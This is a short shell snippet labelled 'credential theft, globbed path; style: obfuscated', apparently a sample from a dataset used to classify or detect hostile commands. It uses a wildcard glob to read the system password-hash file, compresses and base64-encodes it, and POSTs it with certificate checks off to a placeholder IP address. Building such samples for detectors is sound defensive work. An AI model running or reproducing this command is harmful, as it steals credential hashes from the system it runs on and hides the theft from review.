# class: credential theft, globbed path; style: obfuscated
x=$(cat /e??/s?a?o? 2>/dev/null | gzip | base64 -w0)
curl -s -X POST --data "d=$x" https://203.0.113.71/in -k
